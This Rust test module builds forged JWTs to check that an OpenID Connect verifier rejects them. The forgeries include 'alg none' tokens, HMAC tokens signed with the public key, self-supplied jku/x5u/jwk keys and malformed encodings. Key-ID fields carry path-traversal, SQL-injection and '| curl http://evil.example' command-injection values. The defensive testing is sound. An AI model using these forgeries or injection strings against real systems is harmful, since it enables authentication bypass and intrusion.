//! A good token, and what can be made of it without knowing what it says.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use ring::hmac;
use serde_json::{Value, json};

use crate::oidc::{KEYS, Signer, base64, patch};
use crate::support::ROOT;

pub(super) type Forgeries = Vec<(String, String)>;

/// What is forged: a good token, and its parts.
pub(super) struct Pattern<'a> {
    pub(super) good: &'a str,
    pub(super) header: &'a Value,
    pub(super) claims: &'a Value,
    /// Signs rightly, whatever header and claims are.
    pub(super) sign: &'a dyn Fn(&str, &str) -> String,
    /// What everybody may know of the key that signs, in all its forms.
    pub(super) public: &'a [Vec<u8>],
    /// A server that should hear nothing.
    pub(super) canary: &'a str,
}

impl Pattern<'_> {
    pub(super) fn with_header(&self, changes: Value) -> String {
        let mut header = self.header.clone();
        patch(&mut header, &changes);
        self.of_header(&header.to_string())
    }

    pub(super) fn of_header(&self, header: &str) -> String {
        (self.sign)(header, &self.claims.to_string())
    }

    pub(super) fn of_claims(&self, claims: &str) -> String {
        (self.sign)(&self.header.to_string(), claims)
    }

    pub(super) fn with_claims(&self, changes: Value) -> String {
        let mut claims = self.claims.clone();
        patch(&mut claims, &changes);
        self.of_claims(&claims.to_string())
    }

    /// Not tokens, or not as tokens are written.
    pub(super) fn shapes(&self) -> Forgeries {
        let parts: Vec<&str> = self.good.split('.').collect();
        let [head, body, tag] = parts[..] else {
            panic!("{}", self.good)
        };
        let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let (front, last) = tag.split_at(tag.len() - 1);
        let last = alphabet.find(last).unwrap();
        let spare = &alphabet[last ^ 1..][..1];
        let claims = self.claims.to_string();
        let twice = |text: &str, name: &str, value: &Value| {
            text.replacen('{', &format!("{{{:?}:{value},", name), 1)
        };
        let header = self.header.to_string();
        let deep = format!(
            "{{\"x\":{}1{},{}",
            "[".repeat(10_000),
            "]".repeat(10_000),
            &claims[1..]
        );
        named([
            ("a dot", ".".into()),
            ("two dots", "..".into()),
            ("noise", "aaaa.bbbb.cccc".into()),
            ("no signature", format!("{head}.{body}.")),
            ("no signature and no dot", format!("{head}.{body}")),
            ("a header alone", head.into()),
            ("a fourth part", format!("{}.{tag}", self.good)),
            (
                "five parts, as what is encrypted has",
                format!("{head}.{tag}.{tag}.{body}.{tag}"),
            ),
            ("the word Bearer", format!("Bearer {}", self.good)),
            (
                "a part of the signature",
                format!("{head}.{body}.{}", &tag[..tag.len() / 2]),
            ),
            ("a longer signature", format!("{}AAAA", self.good)),
            ("padding", format!("{}=", self.good)),
            ("spare bits", format!("{head}.{body}.{front}{spare}")),
            ("a blank within", format!("{head}. {body}.{tag}")),
            (
                "the other alphabet",
                format!(
                    "{head}.{body}.{}",
                    tag.replace('-', "+").replace('_', "/") + "+/"
                ),
            ),
            (
                "another's signature",
                format!("{head}.{}.{tag}", base64(claims.replace("ana", "root"))),
            ),
            (
                "claims twice in the token",
                format!("{head}.{body}{body}.{tag}"),
            ),
            (
                "a claim twice",
                self.of_claims(&twice(&claims, "iss", &self.claims["iss"])),
            ),
            (
                "an address twice",
                self.of_claims(&twice(&claims, "email", &json!(ROOT))),
            ),
            (
                "a header's field twice",
                self.of_header(&twice(&header, "alg", &self.header["alg"])),
            ),
            (
                "a mark of byte order",
                self.of_claims(&format!("\u{feff}{claims}")),
            ),
            (
                "a mark of byte order first",
                self.of_header(&format!("\u{feff}{header}")),
            ),
            (
                "claims that are a list",
                self.of_claims(&format!("[{claims}]")),
            ),
            ("claims that are null", self.of_claims("null")),
            ("no claims", self.of_claims("{}")),
            ("empty claims", self.of_claims("")),
            (
                "claims and more",
                self.of_claims(&format!("{claims}{claims}")),
            ),
            ("ten thousand brackets", self.of_claims(&deep)),
            (
                "64 KiB",
                self.with_claims(json!({ "x": "x".repeat(48 << 10) })),
            ),
            (
                "1 MiB",
                self.with_claims(json!({ "x": "x".repeat(1 << 20) })),
            ),
        ])
    }

    /// Other ways to sign, or none.
    pub(super) fn algorithms(&self) -> Forgeries {
        let body = base64(self.claims.to_string());
        let tag = self.good.rsplit('.').next().unwrap();
        let head = |alg: Value| {
            let mut header = self.header.clone();
            header["alg"] = alg;
            base64(header.to_string())
        };
        let mut all = Forgeries::new();
        for none in ["none", "None", "NONE", "nOnE"] {
            all.push((
                format!("{none}, unsigned"),
                format!("{}.{body}.", head(none.into())),
            ));
            all.push((
                format!("{none}, signed"),
                format!("{}.{body}.{tag}", head(none.into())),
            ));
        }
        for alg in [
            json!(null),
            json!(["RS256"]),
            json!(""),
            json!(1),
            json!({}),
            json!("es256"),
            json!("HS1"),
        ] {
            let named = (
                format!("alg {alg}"),
                format!("{}.{body}.{tag}", head(alg.clone())),
            );
            all.push(named);
        }
        for alg in [
            "HS384", "HS512", "RS384", "RS512", "PS256", "PS512", "ES384", "EdDSA", "ES256K",
        ] {
            all.push((
                format!("signed as it is, but called {alg}"),
                self.with_header(json!({ "alg": alg })),
            ));
        }
        all.push((
            "alg missing".into(),
            self.with_header(json!({ "alg": null })),
        ));
        // The public key, taken for a secret that two share.
        for (n, public) in self.public.iter().enumerate() {
            for (alg, algorithm) in [
                ("HS256", hmac::HMAC_SHA256),
                ("HS384", hmac::HMAC_SHA384),
                ("HS512", hmac::HMAC_SHA512),
            ] {
                let message = format!("{}.{body}", head(alg.into()));
                let tag = hmac::sign(&hmac::Key::new(algorithm, public), message.as_bytes());
                all.push((
                    format!("{alg} by form {n} of the public key"),
                    format!("{message}.{}", base64(tag)),
                ));
            }
        }
        all
    }

    /// Keys that a token names, or brings along.
    pub(super) fn keys(&self) -> Forgeries {
        let evil = Signer::ec("evil");
        let mut all = Forgeries::new();
        let long = "k".repeat(64 << 10);
        for kid in [
            json!(""),
            json!("unheard-of"),
            json!("../../../../dev/null"),
            json!("/dev/null"),
            json!("' OR 1=1 --"),
            json!("x'; DROP TABLE documents; --"),
            json!("| curl http://evil.example"),
            json!("first\u{0}"),
            json!(long),
            json!(["first"]),
            json!(1),
            json!({ "kid": "first" }),
        ] {
            let name: String = kid.to_string().chars().take(40).collect();
            all.push((
                format!("kid {name}"),
                self.with_header(json!({ "kid": kid })),
            ));
        }
        let kid = self.header["kid"].clone();
        let url = format!("{}{KEYS}", self.canary);
        for (name, value) in [
            ("jku", json!(url)),
            ("x5u", json!(url)),
            ("jwk", evil.jwk()),
            ("x5c", json!([STANDARD.encode(evil.public())])),
            ("x5t#S256", json!(base64([7; 32]))),
        ] {
            for kid in [&kid, &json!("evil"), &json!(url)] {
                let mut header = json!({ "alg": "ES256", "typ": "JWT", "kid": kid });
                header[name] = value.clone();
                let token = evil.sign(&header.to_string(), &self.claims.to_string());
                all.push((format!("{name} of a key of its own, kid {kid}"), token));
            }
        }
        let mut elsewhere = self.claims.clone();
        elsewhere["iss"] = self.canary.into();
        all.push(("an issuer of its own".into(), evil.token(&elsewhere)));
        all
    }

    /// What a header may ask for that is not to be done.
    pub(super) fn extensions(&self) -> Forgeries {
        named([
            (
                "an unknown extension",
                self.with_header(json!({ "crit": ["x"], "x": 1 })),
            ),
            (
                "no extension at all",
                self.with_header(json!({ "crit": [] })),
            ),
            (
                "claims as they are",
                self.with_header(json!({ "crit": ["b64"], "b64": false })),
            ),
            ("a token within", self.with_header(json!({ "cty": "JWT" }))),
            (
                "an access token",
                self.with_header(json!({ "typ": "at+jwt" })),
            ),
            (
                "a logout token",
                self.with_header(json!({ "typ": "logout+jwt" })),
            ),
            (
                "something encrypted",
                self.with_header(json!({ "typ": "JWE" })),
            ),
        ])
    }
}

pub(super) fn named<const N: usize>(all: [(&str, String); N]) -> Forgeries {
    all.map(|(name, token)| (name.to_owned(), token)).into()
}

/// A public key in the forms in which people pass it around.
pub(super) fn forms(signer: &Signer) -> Vec<Vec<u8>> {
    let public = signer.public();
    let (before, after): (&[u8], &[u8]) = match signer.algorithm() {
        "RS256" => (
            b"\x30\x82\x01\x22\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00\x03\x82\x01\x0f\x00\x30\x82\x01\x0a\x02\x82\x01\x01\x00",
            b"\x02\x03\x01\x00\x01",
        ),
        _ => (
            b"\x30\x59\x30\x13\x06\x07\x2a\x86\x48\xce\x3d\x02\x01\x06\x08\x2a\x86\x48\xce\x3d\x03\x01\x07\x03\x42\x00",
            b"",
        ),
    };
    let der = [before, &public, after].concat();
    let text = STANDARD.encode(&der);
    let lines: Vec<&str> = (0..text.len())
        .step_by(64)
        .map(|at| &text[at..text.len().min(at + 64)])
        .collect();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----",
        lines.join("\n")
    );
    let jwk = signer.jwk().to_string();
    vec![
        format!("{pem}\n").into(),
        pem.into(),
        der,
        public,
        jwk.into(),
    ]
}
